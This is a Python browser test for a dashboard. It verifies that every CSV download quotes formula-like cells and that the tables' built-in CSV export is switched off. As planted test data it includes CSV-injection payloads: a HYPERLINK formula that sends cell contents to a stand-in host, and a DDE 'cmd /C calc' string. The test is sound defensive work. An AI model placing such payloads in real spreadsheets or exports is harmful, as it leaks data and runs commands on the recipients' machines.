"""Formula-like text published through the staff code path reaches every CSV download
(the view's figures, all figures, the data package's tables, the claims) inert: each such cell is quoted, the files
start with the UTF-8 byte-order mark and read back with pandas; the tables' own CSV
download (Streamlit's toolbar) is switched off, so no CSV leaves the app without going
through dashboard.exports.spreadsheet."""

from __future__ import annotations

import csv
import io
import itertools
import re
import zipfile

import pandas as pd
from paths import GEODATA, copy_geodata
from playwright.sync_api import expect
from test_exports_browser import download

from dashboard.data.loader import load_dataset
from dashboard.devtools.server import streamlit_server
from dashboard.staff.drafts import table_rows, write_table
from dashboard.staff.store import open_store

STARTS = ("=", "+", "-", "@")
FORMULA_STARTS = (*STARTS, "\t", "\r")


def _publish_formula_like_text(tmp_path) -> tuple[str, list[str]]:
    """Source titles and publishers, figure notes and settlement notes that begin with
    =, +, - and @, saved as the table editor saves them and published; the store folder."""
    store = open_store(str(tmp_path / "store"), seed=copy_geodata(tmp_path / "geodata", GEODATA))
    store.ensure("tester")
    draft = store.new_draft()
    planted = []
    for rel, columns in (("sources.csv", ("title", "publisher")), ("figures/clearance.csv", ("note",))):
        header, rows = table_rows(draft.path, rel)
        for n, (row, column) in enumerate(itertools.product(rows, columns)):
            row[column] = f'{STARTS[n % 4]}HYPERLINK("http://x.example/?"&A1,"{column} {n}")'
            planted.append(row[column])
        write_table(draft.path, rel, header, rows)
    header, rows = table_rows(draft.path, "settlements.csv")
    for n, row in enumerate(rows):
        row["note"] = f"{STARTS[n % 4]}cmd|' /C calc'!A0"
    write_table(draft.path, "settlements.csv", header, rows)
    report = load_dataset(draft.path).report
    assert report.ok, report.to_text()
    assert report.warning_count >= len(planted)  # the validator warns about each, and accepts them
    store.publish(draft.path, "tester", "formula-like text", draft.base)
    return str(store.root), planted


def _check(data: bytes, name: str, planted: list[str]) -> int:
    """No cell begins like a formula unless it is a number; the planted values are quoted."""
    assert data.startswith(b"\xef\xbb\xbf"), name
    text = data[3:].decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header = rows[0]
    cells = set()
    for row in rows[1:]:
        for column, cell in zip(header, row, strict=True):
            if cell.startswith(FORMULA_STARTS):  # only a negative number may
                assert re.fullmatch(r"-\d+(\.\d+)?(e[-+]?\d+)?", cell), (name, column, cell)
            cells.add(cell)
    assert not cells & set(planted), name
    quoted = [v for v in planted if "'" + v in cells]
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert list(frame.columns) == header
    return len(quoted)


def test_formula_like_text_is_quoted_in_every_csv_download(browser, tmp_path):
    store, planted = _publish_formula_like_text(tmp_path)
    env = {"DASHBOARD_GEODATA": str(tmp_path / "geodata"), "DASHBOARD_STORE": store}
    with streamlit_server(env=env) as base:
        context = browser.new_context(viewport={"width": 1440, "height": 1100}, accept_downloads=True)
        page = context.new_page()
        seen = 0
        for query in ("", "?district=AZ-CAB&period=2023", "?metric=returns&lang=az"):
            page.goto(f"{base}/{query}")
            expect(page.locator(".card").first).to_be_visible()
            menu, label = (
                ("Bu görünüşü yüklə", "Mənbəli rəqəmlər (CSV)")
                if "az" in query
                else (
                    "Download this view",
                    "Figures with sources (CSV)",
                )
            )
            page.get_by_text(menu, exact=True).click()  # the download menu (a disclosure) opens
            name, data = download(page, label)
            seen += _check(data, name, planted)
        page.goto(f"{base}/sources")
        name, data = download(page, "Download all figures (CSV)")
        all_figures = _check(data, name, planted)
        assert all_figures >= len(planted) // 2  # every source title and every note is in it
        frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
        assert frame["source_title"].str.startswith("'").all()
        assert seen > 0
        name, data = download(page, "Download all data (zip)")  # every data file, the CSVs rewritten
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            tables = [m for m in package.namelist() if m.endswith(".csv")]
            in_package = sum(_check(package.read(m), m, planted) for m in tables)
        assert "sources.csv" in tables and in_package >= len(planted)  # every planted value, quoted
        page.goto(f"{base}/claims")
        name, data = download(page, "Download the claims and verdicts (CSV)")
        _check(data, name, planted)
        claims = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
        assert claims["source"].str.startswith("'").all()  # each names its source by the planted title
        # the tables on the page offer no CSV of their own (client.disableDataExport)
        table = page.locator("[data-testid='stDataFrame']").first
        table.hover()
        expect(page.locator("[data-testid='stElementToolbar']").first).to_be_attached()
        assert page.get_by_role("button", name="Download as CSV").count() == 0
        context.close()
